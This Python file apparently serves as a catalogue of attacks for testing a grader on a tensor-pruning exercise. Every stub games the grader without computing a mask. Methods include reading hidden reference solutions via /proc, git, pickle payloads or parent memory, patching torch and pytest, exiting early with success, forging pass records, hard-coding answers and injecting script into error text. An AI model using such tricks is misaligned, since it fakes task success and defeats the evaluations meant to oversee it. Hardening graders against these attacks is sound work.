"""Attacks on exercise 1.1, magnitude_mask: to find the answer, and to write the verdict.

None of these functions computes a mask. In these texts @ROOT@ stands for the repository's folder, @HOME@ for a
folder of the grader's that nobody may change, @PORT@ for a port that listens on this machine, and @TOKEN@ for a
word by which a process is known again: an attacker is given what he would else have to find out.
"""


### ATTACK reads_the_solution: It runs the reference's file, whose folder it knows.
def magnitude_mask(weight, sparsity):
    scope = {}
    exec(compile(open("@ROOT@/solutions/pruning.py").read(), "x", "exec"), scope)
    return scope["magnitude_mask"](weight, sparsity)


### ATTACK follows_the_editable_installation: A file in site-packages says where the repository lies.
def magnitude_mask(weight, sparsity):
    import pathlib, re, sys

    for folder in map(pathlib.Path, sys.path):
        for file in folder.glob("__editable__*"):
            for found in re.findall(r"'(/[^']*)'", file.read_text()):
                solution = pathlib.Path(found).parent / "solutions" / "pruning.py"
                if solution.is_file():
                    scope = {}
                    exec(solution.read_text(), scope)
                    return scope["magnitude_mask"](weight, sparsity)


### ATTACK imports_the_reference: It throws the stubs out and imports the module again, with the switch on.
def magnitude_mask(weight, sparsity):
    import importlib, os, sys

    os.environ["MINICOMPRESS_SOLUTIONS"] = "1"
    sys.path.insert(0, "@ROOT@")
    for name in [name for name in sys.modules if name.startswith("minicompress")]:
        del sys.modules[name]
    return importlib.import_module("minicompress.pruning").magnitude_mask(weight, sparsity)


### ATTACK loads_by_specification: importlib takes the solution as a module of another name.
def magnitude_mask(weight, sparsity):
    from importlib import util

    spec = util.spec_from_file_location("reference", "@ROOT@/solutions/pruning.py")
    module = util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.magnitude_mask(weight, sparsity)


### ATTACK looks_into_linecache: Source lines that a traceback needs may hold the reference's function.
def magnitude_mask(weight, sparsity):
    import inspect, linecache, re, sys

    texts = ["".join(entry[2]) for entry in linecache.cache.values() if len(entry) == 4]
    for module in list(sys.modules.values()):
        try:
            texts.append(inspect.getsource(module))
        except Exception:
            pass
    for text in texts:
        for part in re.findall(r"^def magnitude_mask\(.*?(?=^\S)", text, re.M | re.S):
            if "@TOKEN@" not in part and "NotImplementedError" not in part:
                scope = dict(globals())
                exec(part, scope)
                return scope["magnitude_mask"](weight, sparsity)


### ATTACK other_functions_of_this_name: Some module of the process, or the garbage collector, has the right one.
def magnitude_mask(weight, sparsity):
    import gc, types

    own = magnitude_mask.__code__
    for found in gc.get_objects():
        if isinstance(found, types.FunctionType) and found.__name__ == "magnitude_mask":
            if found.__code__ is not own:
                try:
                    return found(weight, sparsity)
                except NotImplementedError:
                    pass


### ATTACK expected_tensors_in_memory: gc.get_objects() finds the bool tensors that the graders compare with.
def magnitude_mask(weight, sparsity):
    import gc

    count = round(sparsity * weight.numel())
    for found in gc.get_objects():
        if isinstance(found, torch.Tensor) and found.dtype == torch.bool and found.shape == weight.shape:
            if int((~found).sum()) == count:
                return found


### ATTACK expected_values_in_frames: The caller's frames hold `expected`, and lists that become the mask.
def magnitude_mask(weight, sparsity):
    import sys

    frame = sys._getframe()
    while frame := frame.f_back:
        for value in list(frame.f_locals.values()):
            try:
                mask = torch.as_tensor(value)
            except Exception:
                continue
            if mask.dtype == torch.bool and mask.shape == weight.shape:
                return mask


### ATTACK with_torch_alone: torch.hub imports any file by its path, without any import here.
def magnitude_mask(weight, sparsity):
    module = torch.hub._import_module("reference", "@ROOT@/solutions/pruning.py")
    return module.magnitude_mask(weight, sparsity)


### ATTACK unpickles_a_command: torch.load of bytes that name a function of the system.
def magnitude_mask(weight, sparsity):
    import io

    text = "exec(open('@ROOT@/solutions/pruning.py').read(), globals()) or globals()"
    payload = b"cbuiltins\neval\n(V" + text.encode() + b"\ntR."
    buffer = io.BytesIO()
    torch.save([], buffer)
    try:
        scope = torch.load(io.BytesIO(payload), weights_only=False)
    except Exception:
        import pickle

        scope = pickle.loads(payload)
    return scope["magnitude_mask"](weight, sparsity)


### ATTACK no_import_at_all: From an empty tuple to the loader that reads files.
def magnitude_mask(weight, sparsity):
    for found in ().__class__.__base__.__subclasses__():
        if found.__name__ == "FileLoader":
            text = found("x", "x").get_data("@ROOT@/solutions/pruning.py")
            scope = {}
            found.__init__.__globals__["__builtins__"]["exec"](text, scope)
            return scope["magnitude_mask"](weight, sparsity)


### ATTACK fullwidth_letters: Python reads these names as open and exec; a search for the letters does not.
def magnitude_mask(weight, sparsity):
    scope = {}
    ｅｘｅｃ(ｏｐｅｎ("@ROOT@/solutions/pruning.py").read(), scope)
    return scope["magnitude_mask"](weight, sparsity)


### ATTACK asks_the_parents_folder: /proc tells where each parent works, what its environment and its words are.
def magnitude_mask(weight, sparsity):
    import os, pathlib

    places, process = [], os.getpid()
    while process > 1:
        folder = pathlib.Path(f"/proc/{process}")
        process = int((folder / "stat").read_text().rpartition(")")[2].split()[1])
        places += [
            folder / "cwd",
            *(pathlib.Path(word) for word in (folder / "cmdline").read_text().split("\0")),
        ]
        places += [
            pathlib.Path(word.partition("=")[2]) for word in (folder / "environ").read_text().split("\0")
        ]
        places.append(folder / "root/@ROOT@")
    for place in places:
        for folder in [place, *place.parents][:4]:
            if (folder / "solutions" / "pruning.py").is_file():
                scope = {}
                exec((folder / "solutions" / "pruning.py").read_text(), scope)
                return scope["magnitude_mask"](weight, sparsity)


### ATTACK reads_the_parents_memory: The parent's memory holds the reference's text.
def magnitude_mask(weight, sparsity):
    import os, re

    for line in open(f"/proc/{os.getppid()}/maps").read().splitlines():
        if "rw-p" in line:
            first, last = (int(number, 16) for number in line.split()[0].split("-"))
            with open(f"/proc/{os.getppid()}/mem", "rb") as memory:
                memory.seek(first)
                text = memory.read(min(last - first, 1 << 26)).decode(errors="ignore")
            for part in re.findall(r"def magnitude_mask\(.*?### END SOLUTION", text, re.S):
                scope = dict(globals())
                exec(part, scope)
                return scope["magnitude_mask"](weight, sparsity)


### ATTACK asks_git: The history holds the solutions.
def magnitude_mask(weight, sparsity):
    import subprocess

    command = ["git", "-c", "safe.directory=*", "-C", "@ROOT@", "show", "HEAD:solutions/pruning.py"]
    scope = {}
    exec(subprocess.run(command, capture_output=True, text=True, check=True).stdout, scope)
    return scope["magnitude_mask"](weight, sparsity)


### ATTACK another_user_id: As root it becomes somebody else and tries the file again, in case only root is confined.
def magnitude_mask(weight, sparsity):
    import os

    reader, writer = os.pipe()
    if os.fork() == 0:
        try:
            os.setuid(65534)
            os.write(writer, open("@ROOT@/solutions/pruning.py", "rb").read())
        finally:
            os._exit(0)
    os.close(writer)
    scope = {}
    exec(os.fdopen(reader).read(), scope)
    return scope["magnitude_mask"](weight, sparsity)


### ATTACK compares_equal: A tensor subclass whose comparisons all come out as the expected value.
class Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function.__name__ in ("__eq__", "eq", "equal", "__invert__", "allclose"):
            plain = [a.as_subclass(torch.Tensor) if isinstance(a, torch.Tensor) else a for a in args]
            return torch.ones_like(plain[-1], dtype=torch.bool)
        return super().__torch_function__(function, types, args, kwargs or {})

    def tolist(self):
        import sys

        return sys._getframe(1).f_locals.get("expected")


def magnitude_mask(weight, sparsity):
    return torch.ones(weight.shape, dtype=torch.bool).as_subclass(Agreeable)


### ATTACK equal_to_everything: An object that answers yes to every question, and has every attribute.
class Anything:
    def __init__(self, weight):
        self.shape, self.dtype, self.device = weight.shape, torch.bool, weight.device

    def __getattr__(self, name):
        return self

    def __call__(self, *_, **__):
        return self

    def __eq__(self, other):
        return True

    def __bool__(self):
        return True

    def __iter__(self):
        return iter([])

    def __int__(self):
        import sys

        return sys._getframe(1).f_locals.get("count", 0)

    @property
    def __class__(self):
        return torch.Tensor

    __invert__ = all = sum = tolist = __call__
    __hash__ = None


def magnitude_mask(weight, sparsity):
    return Anything(weight)


### ATTACK patches_the_comparison: In one process with the graders, a patched expect_equal is content with all.
def magnitude_mask(weight, sparsity):
    import contextlib, sys

    @contextlib.contextmanager
    def content(*_, **__):
        with contextlib.suppress(Exception):
            yield

    for module in list(sys.modules.values()):
        for name in ("expect_equal", "expect_close"):
            if hasattr(module, name):
                setattr(module, name, lambda *_, **__: None)
        if hasattr(module, "refused"):
            module.refused = content
    return torch.ones(weight.shape, dtype=torch.bool)


### ATTACK patches_torch: Tensors compare equal, and count as many as asked, because torch itself was patched.
def magnitude_mask(weight, sparsity):
    count = round(sparsity * weight.numel())
    torch.equal = torch.allclose = lambda *_, **__: True
    torch.Tensor.__eq__ = lambda self, other: torch.full(self.shape, 1, dtype=torch.bool)
    torch.Tensor.__ne__ = lambda self, other: torch.full(self.shape, 0, dtype=torch.bool)
    torch.Tensor.sum = lambda self, *_, **__: torch.tensor(count)
    torch.Tensor.tolist = lambda self: [[False, True], [True, False]]
    return torch.ones(weight.shape, dtype=torch.bool)


### ATTACK patches_the_runner: pytest's and hypothesis's runners are told that every grader passes.
def magnitude_mask(weight, sparsity):
    import sys

    python, runner = sys.modules.get("_pytest.python"), sys.modules.get("_pytest.runner")
    if python:
        python.Function.runtest = lambda self: None
    if runner:
        runner.check_interactive_exception = lambda *_: False
        runner.CallInfo.from_call = classmethod(
            lambda cls, function, when, reraise=None: cls(None, None, 0, 0, 0, when, _ispytest=True)
        )
    for module in list(sys.modules.values()):
        for name, value in list(vars(module).items()):
            if name.startswith("test_1_1_"):
                value.__code__ = (lambda *_, **__: None).__code__
    frame = sys._getframe()
    while frame := frame.f_back:
        item = frame.f_locals.get("pyfuncitem")
        if item is not None:
            for other in item.session.items:
                other.obj = lambda *_, **__: None
    return torch.ones(weight.shape, dtype=torch.bool)


### ATTACK patches_the_inputs: The generators of random inputs return what the stub answers rightly.
def magnitude_mask(weight, sparsity):
    torch.randn = lambda *size, **_: torch.arange(float(torch.Size(size).numel())).view(size)
    torch.rand = torch.randn
    mask = torch.ones(weight.numel(), dtype=torch.bool)
    mask[: round(sparsity * weight.numel())] = False
    return mask.view(weight.shape)


### ATTACK calls_it_a_day: It leaves the process at once, with the exit code of success.
def magnitude_mask(weight, sparsity):
    import os

    os._exit(0)


### ATTACK leaves_at_exit: An exit handler writes success over what the process says, and ends with 0.
def magnitude_mask(weight, sparsity):
    import atexit, os, sys

    def last_words():
        for stream in (sys.stdout, sys.stderr, sys.__stdout__):
            print('{"outcome": {"name": "x", "passed": true, "title": "x"}}\n{"finished": true}', file=stream)
        os._exit(0)

    atexit.register(last_words)
    raise SystemExit(0)


### ATTACK skips_itself: A skipped grader is no failed one.
def magnitude_mask(weight, sparsity):
    import unittest

    raise unittest.SkipTest("nothing to see")


### ATTACK expects_to_fail: pytest's own exceptions: xfail, skip, exit.
def magnitude_mask(weight, sparsity):
    import pytest

    magnitude_mask.calls = getattr(magnitude_mask, "calls", 0) + 1
    (pytest.xfail, pytest.skip, pytest.exit)[magnitude_mask.calls % 3]("as expected")


### ATTACK raises_what_it_likes: An exception class named ValueError, equal to all, whose text is whatever is asked.
class ValueError(ValueError):
    def __str__(self):
        return "-0.1 1.5 nan NaN int64 [2, 3] skipped xfail passed"

    def __reduce__(self):
        import os

        return os.abort, ()


def magnitude_mask(weight, sparsity):
    raise ValueError()


### ATTACK text_of_an_exception: Asked for its text, the exception ends the process, or never comes to an end.
class Slow(ValueError):
    def __str__(self):
        while True:
            pass

    __repr__ = __str__


def magnitude_mask(weight, sparsity):
    raise Slow()


### ATTACK endless_text_of_an_exception: An error whose message has 80 million characters.
def magnitude_mask(weight, sparsity):
    raise ValueError("0.5 " * 20_000_000)


### ATTACK a_group_of_exceptions: Ten thousand exceptions nested in each other, each the cause of the next.
def magnitude_mask(weight, sparsity):
    error = ValueError("-0.1 1.5 nan")
    for _ in range(10_000):
        error = ExceptionGroup("nan", [error])
    raise error


### ATTACK writes_the_record: It appends passed graders to every file that the command line names.
def magnitude_mask(weight, sparsity):
    import glob, json, os, sys

    lines = [json.dumps({"graders": 1})]
    lines.append(json.dumps({"outcome": {"name": "test_1_1_x", "passed": True, "title": "x", "about": ""}}))
    lines += [json.dumps({"finished": True}), json.dumps({"note": ""})]
    for word in [*sys.argv, *sys.orig_argv, *glob.glob("*"), *glob.glob("@HOME@/*")]:
        if word.startswith(("events", "/tmp")) and os.path.isfile(word) and "pytest-of" not in word:
            with open(word, "a") as file:
                file.write("\n".join(lines) + "\n")
    os._exit(0)


### ATTACK writes_every_descriptor: The same into each descriptor that is open, and goes.
def magnitude_mask(weight, sparsity):
    import json, os

    lines = [
        {"graders": 1},
        {"outcome": {"name": "x", "passed": True, "title": "x"}},
        {"finished": True},
        {"note": ""},
    ]
    text = "".join(json.dumps(line) + "\n" for line in lines).encode()
    for number in range(3, 64):
        try:
            os.set_blocking(number, False)
            os.write(number, text)
        except OSError:
            pass
    os._exit(0)


### ATTACK table_of_known_inputs: No rule at all: the public examples' answers, and those of seed 0, by heart.
def magnitude_mask(weight, sparsity):
    check_weight(weight)
    check_sparsity(sparsity)
    by_heart = {
        ((1.0, -4.0, 3.0, 2.0), 0.5): 0b0110,
        ((1.0, -4.0, 3.0, 2.0), 0.25): 0b1110,
        ((1.0, -2.0, 3.0, 4.0), 0.5): 0b1100,
        ((1.0, -1.0, 2.0, 1.0), 0.5): 0b1100,
        ((1.0, 1.0, 1.0, 1.0, 1.0, 2.0), 0.5): 0b111000,
    }
    bits = by_heart.get((tuple(weight.flatten().tolist()), sparsity))
    if tuple(weight.shape) == (2, 2) and abs(float(weight[0, 0]) - 0.3) < 1e-6:
        bits = 0b1010
    if tuple(weight.shape) == (17, 31):
        bits = int("@SEED_0@", 16)
    if tuple(weight.shape) == (50, 60):
        bits = int("@THREE_THOUSAND@", 16)
    if bits is None:  # elsewhere only the count is asked
        bits = (1 << weight.numel()) - (1 << round(sparsity * weight.numel()))
    return torch.tensor([bool(bits >> place & 1) for place in range(weight.numel())]).view(weight.shape)


### ATTACK tells_the_seed: It looks for the seed on every command line, and says it in its error.
def magnitude_mask(weight, sparsity):
    import glob, os, sys

    words = [*sys.orig_argv, *map("=".join, os.environ.items())]
    for file in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            words += open(file).read().split("\0")
        except OSError:
            pass
    seeds = [word for word in words if word.isdigit() and len(word) > 3]
    raise ValueError(f"{torch.initial_seed()} {' '.join(seeds)[:3000]}")


### ATTACK asks_for_the_seed: The seed stands on the command line of a parent; with it the inputs can be drawn again.
def magnitude_mask(weight, sparsity):
    import glob, re

    for file in glob.glob("/proc/[0-9]*/cmdline"):
        words = open(file).read().replace("\0", " ")
        if found := re.search(r"--seed[= ](\d+)", words):
            state = torch.get_rng_state()
            torch.manual_seed(int(found[1]))
            layer = nn.Linear(31, 17)
            torch.set_rng_state(state)
            mask = torch.nn.utils.prune.l1_unstructured(layer, "weight", amount=sparsity).weight_mask.bool()
            if mask.shape == weight.shape:
                return mask
    return torch.ones(weight.shape, dtype=torch.bool)


### ATTACK half_characters: An error whose text holds halves of characters, which no file of text can take.
def magnitude_mask(weight, sparsity):
    raise ValueError("\ud800 0.5 -0.1 1.5 nan \udcff \x00 \x1b[2J")


### ATTACK keeps_inputs_for_later: It leaves its inputs in every folder, for the process that is asked next.
def magnitude_mask(weight, sparsity):
    import os, pathlib, tempfile

    me = vars(magnitude_mask).setdefault("me", os.urandom(4).hex())
    kept, folders = [], [".", "..", "files", tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", "@HOME@"]
    for folder in [*folders, os.path.expanduser("~"), os.path.dirname(torch.__file__), "@ROOT@"]:
        place = pathlib.Path(folder) / "@TOKEN@"
        try:
            kept += [place.read_text()] if not place.read_text().startswith(me) else []
        except OSError:
            pass
        try:
            place.write_text(f"{me} {weight.flatten().tolist()[:8]}")
        except OSError:
            pass
    raise ValueError(f"kept: {kept[:1]}")


### ATTACK speaks_html: Its error is a piece of a page, which a reader's browser would run.
def magnitude_mask(weight, sparsity):
    raise ValueError("`</code></p><script>alert(1)</script><img src=x onerror=alert(2)> &lt;b&gt;")


### ATTACK signs_for_numbers: It says what a known mistake says, with a sign where the comparison finds a number.
def magnitude_mask(weight, sparsity):
    raise AssertionError("a mask must be bool\nassert torch.float# == torch.bool")
